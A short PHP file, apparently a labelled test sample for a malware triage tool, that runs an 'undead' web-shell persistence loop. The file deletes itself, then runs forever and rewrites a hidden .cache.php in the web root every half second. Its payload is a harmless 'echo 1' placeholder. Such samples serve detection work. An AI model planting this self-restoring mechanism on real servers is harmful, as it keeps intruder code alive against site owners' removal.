<?php
// triage-expect: triage_php_undead_shell
ignore_user_abort(true);
set_time_limit(0);
@unlink(__FILE__);
$body = base64_decode('PD9waHAgZWNobyAxOw==');
while (true) {
    if (!file_exists('/var/www/html/.cache.php')) { file_put_contents('/var/www/html/.cache.php', $body); }
    usleep(500000);
}
